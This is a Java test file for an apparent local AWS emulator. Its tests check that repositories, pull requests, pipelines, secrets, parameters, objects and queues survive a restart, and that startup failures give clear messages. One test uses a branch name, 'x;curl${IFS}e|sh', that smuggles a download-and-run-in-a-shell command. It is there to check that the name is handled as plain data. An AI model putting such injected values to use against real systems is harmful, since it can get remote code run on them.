package dev.signalbox.local;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import dev.signalbox.local.front.PortTaken;
import dev.signalbox.local.store.DirectoryUnusable;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.awscore.client.builder.AwsClientBuilder;
import software.amazon.awssdk.awscore.client.builder.AwsSyncClientBuilder;
import software.amazon.awssdk.core.SdkBytes;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.http.urlconnection.UrlConnectionHttpClient;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.codecommit.CodeCommitClient;
import software.amazon.awssdk.services.codecommit.model.Target;
import software.amazon.awssdk.services.codepipeline.CodePipelineClient;
import software.amazon.awssdk.services.codepipeline.model.ActionCategory;
import software.amazon.awssdk.services.codepipeline.model.ActionDeclaration;
import software.amazon.awssdk.services.codepipeline.model.ActionOwner;
import software.amazon.awssdk.services.codepipeline.model.ArtifactStoreType;
import software.amazon.awssdk.services.codepipeline.model.PipelineDeclaration;
import software.amazon.awssdk.services.codepipeline.model.StageDeclaration;
import software.amazon.awssdk.services.eventbridge.EventBridgeClient;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.secretsmanager.SecretsManagerClient;
import software.amazon.awssdk.services.sqs.SqsClient;
import software.amazon.awssdk.services.ssm.SsmClient;
import software.amazon.awssdk.services.ssm.model.ParameterType;

/** What outlives {@code local}, and what it says when it cannot start. */
class RestartTest {
  @TempDir private Path directory;

  /** Starts on the test's data directory, does something, and stops. */
  private <T> T during(Work<T> work) {
    try (Local local = Local.start(LocalOptions.defaults().withData(directory.resolve("data")))) {
      return work.with(new Clients(local));
    }
  }

  @FunctionalInterface
  private interface Work<T> {
    T with(Clients clients);
  }

  private record Clients(Local local) {
    <B extends AwsClientBuilder<B, C> & AwsSyncClientBuilder<B, C>, C> C of(B builder) {
      return builder
          .endpointOverride(local.address())
          .region(Region.EU_WEST_1)
          .credentialsProvider(
              StaticCredentialsProvider.create(
                  AwsBasicCredentials.create(LocalServer.ACCOUNT, "local")))
          .httpClientBuilder(UrlConnectionHttpClient.builder())
          .build();
    }

    CodeCommitClient codeCommit() {
      return of(CodeCommitClient.builder());
    }
  }

  @Test
  void repositoriesWithTheirPullRequestsCommentsAndTagsAreThereAgain() {
    String pullRequest =
        during(clients -> {
          CodeCommitClient client = clients.codeCommit();
          client.createRepository(it -> it.repositoryName("shop").tags(Map.of("team", "é")));
          String commit = put(client, "main", null);
          client.createBranch(
              it -> it.repositoryName("shop").branchName("x;curl${IFS}e|sh").commitId(commit));
          put(client, "x;curl${IFS}e|sh", commit);
          return client
              .createPullRequest(it ->
                  it.title("t")
                      .targets(
                          Target.builder()
                              .repositoryName("shop")
                              .sourceReference("x;curl${IFS}e|sh")
                              .build()))
              .pullRequest()
              .pullRequestId();
        });
    during(clients -> {
      CodeCommitClient client = clients.codeCommit();
      assertThat(client.listBranches(it -> it.repositoryName("shop")).branches())
          .containsExactly("main", "x;curl${IFS}e|sh");
      var metadata = client.getRepository(it -> it.repositoryName("shop")).repositoryMetadata();
      assertThat(metadata.defaultBranch()).isEqualTo("main");
      assertThat(client.listTagsForResource(it -> it.resourceArn(metadata.arn())).tags())
          .containsEntry("team", "é");
      return client.mergePullRequestByFastForward(
          it -> it.pullRequestId(pullRequest).repositoryName("shop"));
    });
    during(clients -> {
      var state =
          clients
              .codeCommit()
              .getPullRequest(it -> it.pullRequestId(pullRequest))
              .pullRequest()
              .pullRequestTargets()
              .getFirst()
              .mergeMetadata();
      assertThat(state.isMerged()).isTrue();
      return state;
    });
  }

  private static String put(
      CodeCommitClient client, String branch, @org.jspecify.annotations.Nullable String parent) {
    return client
        .putFile(it ->
            it.repositoryName("shop")
                .branchName(branch)
                .parentCommitId(parent)
                .filePath(parent == null ? "a" : "b")
                .fileContent(SdkBytes.fromUtf8String("x")))
        .commitId();
  }

  @Test
  void rulesParametersSecretsObjectsAndQueuesAreThereAgain() {
    during(clients -> {
      clients
          .of(EventBridgeClient.builder())
          .putRule(it -> it.name("pushes").eventPattern("{\"source\":[\"aws.codecommit\"]}"));
      clients
          .of(SsmClient.builder())
          .putParameter(it -> it.name("/shop/url").value("u").type(ParameterType.SECURE_STRING));
      clients
          .of(SecretsManagerClient.builder())
          .createSecret(it -> it.name("token").secretString("s"));
      S3Client s3 = clients.of(S3Client.builder().forcePathStyle(true));
      s3.createBucket(it -> it.bucket("artifacts"));
      s3.putObject(it -> it.bucket("artifacts").key("a b/é"), RequestBody.fromString("object"));
      return clients.of(SqsClient.builder()).createQueue(it -> it.queueName("dead"));
    });
    during(clients -> {
      assertThat(
              clients
                  .of(EventBridgeClient.builder())
                  .describeRule(it -> it.name("pushes"))
                  .eventPattern())
          .contains("aws.codecommit");
      assertThat(
              clients
                  .of(SsmClient.builder())
                  .getParameter(it -> it.name("/shop/url").withDecryption(true))
                  .parameter()
                  .value())
          .isEqualTo("u");
      assertThat(
              clients
                  .of(SecretsManagerClient.builder())
                  .getSecretValue(it -> it.secretId("token"))
                  .secretString())
          .isEqualTo("s");
      assertThat(
              clients
                  .of(S3Client.builder().forcePathStyle(true))
                  .getObjectAsBytes(it -> it.bucket("artifacts").key("a b/é"))
                  .asUtf8String())
          .isEqualTo("object");
      return assertThat(
              clients.of(SqsClient.builder()).getQueueUrl(it -> it.queueName("dead")).queueUrl())
          .endsWith("/dead");
    });
  }

  @Test
  void pipelinesAreThereAgain() {
    during(clients ->
        clients.of(CodePipelineClient.builder()).createPipeline(it -> it.pipeline(pipeline())));
    during(clients ->
        assertThat(
                clients
                    .of(CodePipelineClient.builder())
                    .getPipeline(it -> it.name("shop"))
                    .pipeline()
                    .stages())
            .extracting(StageDeclaration::name)
            .containsExactly("Source", "Approve"));
  }

  private static PipelineDeclaration pipeline() {
    return PipelineDeclaration.builder()
        .name("shop")
        .roleArn("arn:aws:iam::" + LocalServer.ACCOUNT + ":role/pipeline")
        .artifactStore(it -> it.type(ArtifactStoreType.S3).location("artifacts"))
        .stages(
            stage(
                "Source",
                action(ActionCategory.SOURCE, "CodeCommit")
                    .configuration(Map.of("RepositoryName", "shop", "BranchName", "main"))
                    .outputArtifacts(
                        software.amazon.awssdk.services.codepipeline.model.OutputArtifact.builder()
                            .name("Out")
                            .build())
                    .build()),
            stage("Approve", action(ActionCategory.APPROVAL, "Manual").build()))
        .build();
  }

  private static StageDeclaration stage(String name, ActionDeclaration action) {
    return StageDeclaration.builder().name(name).actions(action).build();
  }

  private static ActionDeclaration.Builder action(ActionCategory category, String provider) {
    return ActionDeclaration.builder()
        .name(provider)
        .actionTypeId(
            it -> it.category(category).owner(ActionOwner.AWS).provider(provider).version("1"));
  }

  @Test
  void timeThatRunsFastDoesNotGoBack() {
    LocalOptions fast = LocalOptions.defaults().withData(directory.resolve("data"));
    Instant before;
    try (Local local = Local.start(fast.withTimeScale(100_000))) {
      await().atMost(Duration.ofSeconds(20)).until(() -> made(local, "first").isAfter(inAnHour()));
      before = made(local, "second");
    }
    try (Local local = Local.start(fast)) {
      assertThat(made(local, "third")).isAfterOrEqualTo(before);
    }
  }

  private static Instant inAnHour() {
    return Instant.now().plus(Duration.ofHours(1));
  }

  /** When a repository was made that had not been there before. */
  private static Instant made(Local local, String name) {
    CodeCommitClient client = new Clients(local).codeCommit();
    return client
        .createRepository(it -> it.repositoryName(name + "-" + UUID.randomUUID()))
        .repositoryMetadata()
        .creationDate();
  }

  @Test
  void withoutADataDirectoryNothingIsKept() {
    try (Local local = Local.start(LocalOptions.defaults())) {
      new Clients(local).codeCommit().createRepository(it -> it.repositoryName("shop"));
    }
    try (Local local = Local.start(LocalOptions.defaults())) {
      assertThat(new Clients(local).codeCommit().listRepositories(_ -> {}).repositories())
          .isEmpty();
    }
  }

  @Test
  void twoOnOneDataDirectoryAreOneTooMany() {
    during(_ ->
        assertThatThrownBy(() -> during(_ -> ""))
            .isInstanceOf(DirectoryUnusable.class)
            .hasMessageContaining("is in use by another process"));
  }

  @Test
  void aDirectoryThatCannotBeMadeIsNamed() throws IOException {
    Path file = Files.createFile(directory.resolve("data"));
    assertThatThrownBy(() -> during(_ -> ""))
        .isInstanceOf(DirectoryUnusable.class)
        .hasMessageContaining(file.toString())
        .hasMessageContaining("cannot be made");
  }

  @Test
  void aReadOnlyDirectoryIsNamed() throws IOException {
    Path data = Files.createDirectory(directory.resolve("data"));
    assertThat(data.toFile().setWritable(false)).isTrue();
    // Nothing is read-only to root.
    Assumptions.assumeFalse(Files.isWritable(data));
    assertThatThrownBy(() -> during(_ -> ""))
        .isInstanceOf(DirectoryUnusable.class)
        .hasMessageContaining("is not writable: choose another with --data");
  }

  @Test
  void aStateThatNobodyCanReadIsNamedAndLeftAsItIs() throws IOException {
    Path state = Files.createDirectory(directory.resolve("data")).resolve("state.mv");
    Files.writeString(state, "not ours".repeat(2000));
    assertThatThrownBy(() -> during(_ -> ""))
        .isInstanceOf(DirectoryUnusable.class)
        .hasMessageContaining("holds an unreadable state.mv");
    assertThat(state).hasContent("not ours".repeat(2000));
  }

  @Test
  void aTakenPortIsNamedAndNothingIsLeftBehindByTheAttempt() throws IOException {
    try (ServerSocket taken = new ServerSocket(0, 0, InetAddress.getLoopbackAddress())) {
      LocalOptions options =
          LocalOptions.defaults()
              .withData(directory.resolve("data"))
              .withPort(taken.getLocalPort());
      assertThatThrownBy(() -> Local.start(options).close())
          .isInstanceOf(PortTaken.class)
          .hasMessageContaining("Port " + taken.getLocalPort())
          .hasMessageContaining("choose another with --port");
    }
    // The data directory is free again.
    int port = during(clients -> clients.local().address().getPort());
    assertThat(port).isPositive();
  }
}
